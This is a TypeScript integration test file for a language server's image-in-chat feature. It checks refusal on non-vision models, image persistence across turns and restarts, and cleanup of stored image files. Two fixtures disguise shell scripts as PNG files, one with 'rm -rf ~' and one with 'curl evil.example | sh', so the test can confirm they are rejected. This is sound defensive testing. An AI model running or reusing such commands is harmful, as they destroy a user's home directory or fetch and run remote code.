/**
 * Images in chat through the real language server (stdio LSP) and the
 * scripted Ollama: a model without vision gets a clear refusal and the
 * message keeps its image; a retry on a vision model sends the image in the
 * user message's `images`; later turns and a restarted server still carry
 * it; a file that is not an image is refused before anything is stored.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ChatRetryRequest, ChatSendRequest, DraftImagesLoadRequest, DraftImagesSaveRequest, SessionDeleteRequest, SessionGetRequest, SessionListRequest } from '../../protocol/lspMethods';
import type { UserEntry } from '../../protocol/sessions';
import { DEFAULT_MODELS, GEMMA3_VISION, startOllamaFixture, type OllamaFixture, type RecordedRequest } from '../fixtures/ollamaFixture';
import { sampleImage } from '../fixtures/sampleImages';
import { startLspTestClient, type LspTestClient } from './lspTestClient';
import { until, untilValue } from '../fixtures/until';

const chats = (fixture: OllamaFixture): RecordedRequest[] => fixture.requests.filter((r) => r.path === '/api/chat');

describe('language server: images in chat (integration)', function () {
  this.timeout(30_000);
  let fixture: OllamaFixture;
  let storage: string;
  let client: LspTestClient | undefined;

  beforeEach(async () => {
    fixture = await startOllamaFixture({ models: [...DEFAULT_MODELS, GEMMA3_VISION] });
    storage = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-images-'));
  });

  afterEach(async () => {
    await client?.stop();
    client = undefined;
    await fixture.close();
    fs.rmSync(storage, { recursive: true, force: true });
  });

  const start = async () => (client = await startLspTestClient({ storagePath: storage, settings: { ollama: { host: fixture.url }, chat: { model: 'llama3.2:3b' } } }));
  const userEntries = async (sessionId: string) => (await client!.connection.sendRequest(SessionGetRequest.type, { sessionId })).entries.filter((e): e is UserEntry => e.kind === 'user');

  it('refuses a model without vision clearly and keeps the message; a retry on a vision model sends the image, and it stays with its message across turns and a restart', async () => {
    await start();
    const image = sampleImage('architecture.png');
    const sent = await client!.connection.sendRequest(ChatSendRequest.type, { input: { text: 'What does this diagram show?', context: [], images: [image] } });
    const failed = await client!.waitForEvent((e) => e.entryId === sent.assistantEntryId && e.event.type === 'error');
    assert.ok(failed.event.type === 'error');
    assert.match(failed.event.error.message, /llama3\.2:3b cannot see images: it has no "vision" capability \(Ollama lists its capabilities as completion, tools\)\. Pick a vision model/);
    assert.equal(chats(fixture).length, 0, 'the model was never asked');
    assert.deepEqual((await userEntries(sent.sessionId)).map((u) => u.images), [[image]], 'the message and its image are kept');

    fixture.enqueue({ kind: 'text', text: 'Three boxes and two arrows.' }, { kind: 'text', text: 'The middle one.' });
    const retried = await client!.connection.sendRequest(ChatRetryRequest.type, { sessionId: sent.sessionId, model: GEMMA3_VISION.name });
    await client!.waitForEvent((e) => e.entryId === retried.assistantEntryId && e.event.type === 'done');
    const [first] = chats(fixture);
    assert.equal(first.body.model, GEMMA3_VISION.name);
    const lastMessage = first.body.messages.at(-1);
    assert.equal(lastMessage.role, 'user');
    assert.match(lastMessage.content, /What does this diagram show\?/);
    assert.deepEqual(first.images, [{ messageIndex: first.body.messages.length - 1, role: 'user', images: [image.dataBase64] }]);

    // A follow-up without an image: the earlier image stays on the earlier message.
    const next = await client!.connection.sendRequest(ChatSendRequest.type, { sessionId: sent.sessionId, model: GEMMA3_VISION.name, input: { text: 'Which box is the server?', context: [] } });
    await client!.waitForEvent((e) => e.entryId === next.assistantEntryId && e.event.type === 'done');
    const second = chats(fixture)[1];
    const withImage = second.body.messages.findIndex((m: { images?: string[] }) => m.images?.length);
    assert.match(second.body.messages[withImage].content, /What does this diagram show\?/);
    assert.deepEqual(second.images, [{ messageIndex: withImage, role: 'user', images: [image.dataBase64] }]);

    // A restarted server reads the image back from its side file.
    await client!.stop();
    await start();
    assert.deepEqual((await userEntries(sent.sessionId)).map((u) => u.images), [[image], undefined]);
  });

  it('sends images without text (Ollama gets an empty content beside them), and deleting the chat removes their files', async () => {
    await start();
    const image = sampleImage('stack-trace.png', [200, 30, 30]);
    fixture.enqueue({ kind: 'text', text: 'A null pointer in main.' });
    const sent = await client!.connection.sendRequest(ChatSendRequest.type, { model: GEMMA3_VISION.name, input: { text: '', context: [], images: [image] } });
    await client!.waitForEvent((e) => e.entryId === sent.assistantEntryId && e.event.type === 'done');
    const [request] = chats(fixture);
    assert.deepEqual(request.body.messages.at(-1), { role: 'user', content: '', images: [image.dataBase64] });
    const listed = await client!.connection.sendRequest(SessionListRequest.type, {});
    assert.equal(listed.sessions.find((s) => s.id === sent.sessionId)?.title, 'Image: stack-trace.png');
    const imageFiles = () => fs.readdirSync(path.join(storage, 'images')).filter((n) => /^[0-9a-f]{64}$/.test(n));
    assert.equal(imageFiles().length, 1);

    assert.deepEqual(await client!.connection.sendRequest(SessionDeleteRequest.type, { sessionId: sent.sessionId }), { deleted: true });
    await until(() => imageFiles().length === 0, 'the deleted chat’s image file is removed', 15_000);
  });

  it('keeps an unsent draft’s images across restarts while the draft holds them; the start-up sweep removes them once it lets go', async () => {
    await start();
    const draftId = '0d7c2f0e-3b1a-4c5d-8e9f-1a2b3c4d5e6f';
    const image = sampleImage('draft.png', [10, 200, 10]);
    const { refs } = await client!.connection.sendRequest(DraftImagesSaveRequest.type, { draftId, keep: [], add: [image] });
    assert.equal(refs.length, 1);
    const script = { mimeType: 'image/png' as const, name: 'evil.png', dataBase64: Buffer.from('#!/bin/sh\nrm -rf ~\n').toString('base64') };
    await assert.rejects(client!.connection.sendRequest(DraftImagesSaveRequest.type, { draftId, keep: refs, add: [script] }), /evil\.png is not a PNG/);

    await client!.stop();
    await start();
    const loaded = await client!.connection.sendRequest(DraftImagesLoadRequest.type, { refs });
    assert.deepEqual(loaded, { images: [{ ...image, sha256: refs[0].sha256 }], missing: [] });

    await client!.connection.sendRequest(DraftImagesSaveRequest.type, { draftId, keep: [], add: [] });
    await client!.stop();
    await start();
    await untilValue(async () => {
      const again = await client!.connection.sendRequest(DraftImagesLoadRequest.type, { refs });
      return again.missing.length === 1 ? again : undefined;
    }, 'the start-up sweep removes the image no draft holds any more', 15_000);
  });

  it('refuses a file that is not an image before storing anything', async () => {
    await start();
    const script = { mimeType: 'image/png' as const, name: 'innocent.png', dataBase64: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n').toString('base64') };
    await assert.rejects(client!.connection.sendRequest(ChatSendRequest.type, { input: { text: 'look', context: [], images: [script] } }), /innocent\.png is not a PNG, JPEG, GIF or WebP image/);
    assert.equal(chats(fixture).length, 0);
    assert.equal(fs.existsSync(path.join(storage, 'images')), false);
  });
});
